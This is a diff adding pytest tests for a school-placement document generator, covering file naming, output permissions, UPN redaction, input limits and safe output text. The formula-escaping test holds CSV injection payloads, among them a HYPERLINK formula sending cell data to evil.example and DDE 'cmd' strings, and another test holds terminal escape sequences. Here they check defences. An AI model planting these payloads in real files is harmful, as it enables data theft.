@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 from pathlib import Path
 
@@ -341,3 +342,310 @@ def test_the_manifest_does_not_keep_a_bad_upn(tmp_path: Path) -> None:
     text = (out / "manifest.json").read_text(encoding="utf-8")
     assert "not a valid UPN" in text
     assert "Q207000016049" not in text
+
+
+# --------------------------------------------------------------------------- outputs: names, paths, modes
+
+
+def assert_manifest_matches_the_folder(out: Path) -> None:
+    """Every file the manifest lists is there with its SHA-256, and every SLA there is listed."""
+    import hashlib
+
+    listed = {}
+    for pair in manifest(out)["pairs"]:
+        for fmt in ("docx", "pdf"):
+            if pair[fmt]:
+                listed[pair[fmt]] = pair[f"{fmt}_sha256"]
+    on_disk = {
+        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in out.glob("*.*")
+        if p.suffix in (".docx", ".pdf")
+    }
+    assert on_disk == listed
+
+
+def riverside_inputs(tmp_path: Path, names: list[str]) -> tuple[Path, Path]:
+    """Providers named ``names`` (otherwise the example's Riverside Farm), one pupil at each."""
+    provs, places = example_rows("providers"), example_rows("placements")
+    upns = ["V831200024001", "L831200031002", "A831200031003", "P831200031004"]
+    providers = [provs[0]] + [[n] + provs[1][1:] for n in names]
+    placements = [places[0]] + [
+        [u, places[1][1], n, *places[1][3:]] for u, n in zip(upns, names, strict=False)
+    ]
+    return write_csv(tmp_path / "placements.csv", placements), write_csv(
+        tmp_path / "providers.csv", providers
+    )
+
+
+def test_names_that_collide_once_made_safe_get_a_file_each(tmp_path: Path) -> None:
+    # "Riverside Farm" and "Riverside-Farm" are the same once made safe, and a provider really
+    # named "Riverside Farm 190f1baf" is what a hash would once have made of one of them.
+    names = ["Riverside Farm", "Riverside-Farm", "Riverside Farm 190f1baf"]
+    placements, providers = riverside_inputs(tmp_path, names)
+    result, out = bulk(tmp_path, placements, providers=providers)
+    assert result.exit_code == 0, result.output
+    assert "3 pair(s): 3 written" in result.output
+    slas = sorted(p.name for p in out.glob("*.docx"))
+    assert len(slas) == 3
+    assert "sinfin-moor-academy__riverside-farm-190f1baf.docx" in slas  # its own name, no hash
+    assert sum(1 for s in slas if s.startswith("sinfin-moor-academy__riverside-farm__")) == 2
+    assert sorted(p["provider"] for p in manifest(out)["pairs"]) == sorted(names)
+    assert_manifest_matches_the_folder(out)
+    again, _ = bulk(tmp_path, placements, providers=providers)
+    assert "3 pair(s): 0 written, 3 unchanged" in again.output
+    assert_manifest_matches_the_folder(out)
+
+
+def test_stems_are_unique_even_when_short_hashes_agree(monkeypatch: pytest.MonkeyPatch) -> None:
+    import hashlib as real
+
+    from apforms.bulk import sla
+
+    class Agreeing:  # every digest starts the same: the stems must still differ
+        @staticmethod
+        def sha256(data: bytes) -> object:
+            class Digest:
+                def hexdigest(self) -> str:
+                    return "0" * 16 + real.sha256(data).hexdigest()[16:]
+
+            return Digest()
+
+    monkeypatch.setattr(sla, "hashlib", Agreeing)
+    pairs = [sla.Pair({"name": "Sinfin"}, {"name": n}, []) for n in ("A B", "A-B", "A  B!")]
+    sla._assign_stems(pairs)
+    assert len({p.stem for p in pairs}) == 3
+    assert all(len(p.stem.rsplit("__", 1)[1]) == 32 for p in pairs)
+
+
+def make_device(path: Path) -> None:
+    import os
+    import stat
+
+    try:
+        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # like /dev/null
+    except OSError as exc:
+        pytest.skip(f"cannot make a device node here ({exc.strerror or exc}): needs root")
+
+
+def make_fifo(path: Path) -> None:
+    import os
+
+    os.mkfifo(path)
+
+
+def make_link(path: Path) -> None:
+    path.symlink_to(path.parent.parent / "elsewhere.txt")
+
+
+NOT_REGULAR = {
+    "device at an SLA": (
+        "sinfin-moor-academy__riverside-farm-learning-cic.docx",
+        make_device,
+        "a character device",
+    ),
+    "FIFO at the manifest": ("manifest.json", make_fifo, "a named pipe (FIFO)"),
+    "symlink at the CSV manifest": ("manifest.csv", make_link, "a symbolic link"),
+    "folder at an SLA": ("normanton-park-school__derwent-vocational-centre.docx", Path.mkdir, "a folder"),
+}
+
+
+@pytest.mark.parametrize("case", list(NOT_REGULAR))
+def test_an_output_path_that_is_not_a_regular_file_stops_the_run_before_anything_is_written(
+    tmp_path: Path, case: str
+) -> None:
+    name, make, kind = NOT_REGULAR[case]
+    out = tmp_path / "out"
+    out.mkdir()
+    (tmp_path / "elsewhere.txt").write_text("someone else's")
+    make(out / name)
+    result, _ = bulk(tmp_path, None, "--allow-unregistered")
+    assert result.exit_code == 2, result.output
+    assert f"{name} is {kind}; apforms replaces only regular files" in result.output
+    assert [p.name for p in out.iterdir()] == [name]  # nothing written beside it
+    assert (tmp_path / "elsewhere.txt").read_text() == "someone else's"
+
+
+def test_slas_and_manifests_are_private_unless_asked(tmp_path: Path) -> None:
+    import os
+    import stat
+
+    old = os.umask(0o022)
+    try:
+        result, out = bulk(tmp_path, None, "--allow-unregistered")
+        assert result.exit_code == 0, result.output
+        modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in out.iterdir()}
+        assert set(modes.values()) == {0o600}, modes
+        shared, out2 = bulk(tmp_path / "group", None, "--allow-unregistered", "--mode", "0640")
+        assert shared.exit_code == 0, shared.output
+        assert {stat.S_IMODE(p.stat().st_mode) for p in out2.iterdir()} == {0o640}
+        # a rerun with the default makes them private again (unchanged bytes, new mode)
+        bulk(tmp_path / "group", None, "--allow-unregistered")
+        assert {stat.S_IMODE(p.stat().st_mode) for p in out2.iterdir()} == {0o600}
+        refused, _ = bulk(tmp_path / "c", None, "--mode", "0444")
+        assert refused.exit_code == 2
+        assert "0444: give a mode from 0600 to 0777" in refused.output
+    finally:
+        os.umask(old)
+
+
+def test_an_earlier_sla_no_longer_made_is_removed_unless_changed(tmp_path: Path) -> None:
+    first, out = bulk(tmp_path, None, "--allow-unregistered")
+    assert first.exit_code == 0, first.output
+    rows = [r for r in example_rows("placements") if r[1] != "Normanton Park School"]
+    edited = out / "sinfin-moor-academy__peak-boxing-academy.docx"
+    edited.write_bytes(edited.read_bytes() + b"\0")  # changed by hand since
+    rows = [r for r in rows if r[2] != "Peak Boxing Academy"]
+    again, _ = bulk(tmp_path, write_csv(tmp_path / "fewer.csv", rows), "--allow-unregistered")
+    assert again.exit_code == 0, again.output
+    assert "removed from an earlier run (not made now): normanton-park-school__" in again.output
+    assert f"warning: {edited.name}: an earlier run's SLA, not made now, changed since" in again.output
+    assert edited.exists()
+    assert not list(out.glob("normanton-park-school__*"))
+    m = manifest(out)
+    assert m["removed_from_earlier_run"] == [
+        "normanton-park-school__derwent-vocational-centre.docx",
+        "normanton-park-school__peak-boxing-academy.docx",
+        "normanton-park-school__riverside-farm-learning-cic.docx",
+    ]
+    assert [w["file"] for w in m["warnings"]] == [edited.name]
+
+
+# --------------------------------------------------------------------------- outputs: safe text
+
+
+def test_formula_cells_are_escaped_in_the_csv_manifest(tmp_path: Path) -> None:
+    names = [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+    ]
+    placements, providers = riverside_inputs(tmp_path, names)
+    result, out = bulk(tmp_path, placements, providers=providers)
+    assert result.exit_code == 0, result.output
+    with (out / "manifest.csv").open(encoding="utf-8", newline="") as fh:
+        cells = {row["provider"] for row in csv.DictReader(fh)}
+    assert cells == {"'" + n for n in names}
+    text = (out / "manifest.csv").read_text(encoding="utf-8")
+    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
+    assert sorted(p["provider"] for p in manifest(out)["pairs"]) == sorted(names)  # JSON: as spelt
+
+
+def test_control_characters_from_the_inputs_are_shown_not_obeyed(tmp_path: Path) -> None:
+    provs = example_rows("providers")
+    places = example_rows("placements")
+    evil = "Peak\x1b]0;owned\x07 Boxing\u202e Academy\rwritten: all fine"
+    provs[2][0] = evil
+    for row in places[1:]:
+        row[2] = evil if row[2] == "Peak Boxing Academy" else row[2]
+    result, _ = bulk(
+        tmp_path, write_csv(tmp_path / "pl.csv", places), providers=write_csv(tmp_path / "pr.csv", provs)
+    )
+    assert result.exit_code == 1  # withheld, as the example's Peak Boxing is
+    # the name as read (its control characters dropped, its CR a line break) is printed on one
+    # line: no second line starting "written: all fine"
+    assert "Peak]0;owned Boxing Academy\\nwritten: all fine" in result.output
+    assert "\nwritten: all fine" not in result.output
+    assert not any(c in result.output for c in "\x1b\x07\u202e\r")
+
+
+def test_a_upn_is_redacted_wherever_it_is(tmp_path: Path) -> None:
+    rows = example_rows("placements")
+    rows[0].append("L831200031002")  # a UPN pasted as a header
+    rows[1][0] = "'V831200024001"  # Excel's text apostrophe: a 14-character, invalid UPN
+    rows[2][1] = "A 831 200 031 003"  # a UPN in the school's column, spaced
+    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
+    assert result.exit_code == 1
+    assert "placements.csv, row 2, column 'UPN': the value is not a valid UPN" in result.output
+    assert "unknown school '[UPN]'" in result.output
+    for text in (result.output, (out / "manifest.json").read_text(encoding="utf-8")):
+        for upn in ("V831200024001", "L831200031002", "831 200 031 003"):
+            assert upn not in text
+
+
+def test_a_long_value_is_quoted_as_a_short_prefix(tmp_path: Path) -> None:
+    rows = example_rows("placements")
+    rows[1][5] = "ten" * 10_000  # 30,000 characters in Hours per week
+    rows[2][6] = "x" * 40_000  # more than a spreadsheet cell holds
+    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
+    assert result.exit_code == 1
+    prefix = ("ten" * 10_000)[:40]
+    # the value is longer than any field takes: refused by the length limit, quoting its start
+    assert (
+        f"column 'Hours per week': Too long: 30,000 characters (at most 500): beginning {prefix[:-1]!r}"[:-1]
+        in result.output
+    )
+    assert "row 3, column 'Days/sessions': 40,000 characters; a cell may hold at most 32,767" in result.output
+    assert max(len(line) for line in result.output.splitlines()) < 300
+    assert (out / "manifest.json").stat().st_size < 20_000
+
+
+def test_cr_only_csv_from_old_excel_for_mac_is_read(tmp_path: Path) -> None:
+    rows = example_rows("placements")
+    rows[1][6] = "Thu am,\rThu pm"  # a quoted cell holding a line break
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\r").writerows(rows)
+    path = tmp_path / "placements.csv"
+    path.write_bytes(buf.getvalue().encode("cp1252"))
+    plan = plan_slas(path, EX["providers"], EX["schools"], load_config().registration)
+    assert plan.problems == []
+    assert len(plan.pairs) == 5
+
+
+# --------------------------------------------------------------------------- bounds
+
+
+def test_many_identical_rows_give_bounded_messages(tmp_path: Path) -> None:
+    rows = example_rows("placements")
+    rows += [list(rows[1]) for _ in range(2_000)]
+    result, out = bulk(tmp_path, write_csv(tmp_path / "placements.csv", rows))
+    assert result.exit_code == 1
+    skipped = manifest(out)["skipped_rows"]
+    assert len(skipped) == 2_001
+    assert (
+        skipped[0]["message"]
+        == "the same pupil is placed at this provider again in rows 8, 9, 10 and 1,997 more"
+    )
+    assert (
+        skipped[-1]["message"]
+        == "the same pupil is placed at this provider again in rows 2, 8, 9 and 1,997 more"
+    )
+    assert max(len(s["message"]) for s in skipped) < 120
+    assert (out / "manifest.json").stat().st_size < 2_001 * 400
+
+
+def test_an_input_over_the_row_limit_is_refused_naming_the_limit(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from apforms.bulk import inputs
+    from apforms.errors import BulkInputError
+
+    monkeypatch.setattr(inputs, "MAX_INPUT_ROWS", 5)
+    result, out = bulk(tmp_path)  # the example has 6 placements
+    assert result.exit_code == 2
+    assert (
+        "apforms: placements.csv: more than 5 rows below the header (the most one file may have)"
+        in result.output
+    )
+    assert not out.exists()
+
+    def validated(*args: object) -> None:
+        raise AssertionError("a row was validated before the file was refused")
+
+    monkeypatch.setattr(inputs, "_validate_row", validated)  # refused in the time it takes to read
+    with pytest.raises(BulkInputError, match="more than 5 rows"):
+        inputs.read_table("placements", EX["placements"])
+    monkeypatch.setattr(inputs, "MAX_INPUT_BYTES", 100)
+    too_big, _ = bulk(tmp_path)
+    assert too_big.exit_code == 2
+    assert "providers.csv: 0.0 MB; an input file may be at most 0 MB" in too_big.output
+
+
+def test_an_input_that_is_a_fifo_is_refused_not_waited_for(tmp_path: Path) -> None:
+    import os
+
+    fifo = tmp_path / "placements.csv"
+    os.mkfifo(fifo)
+    result, _ = bulk(tmp_path, fifo)
+    assert result.exit_code == 2
+    assert "not a regular file" in result.output
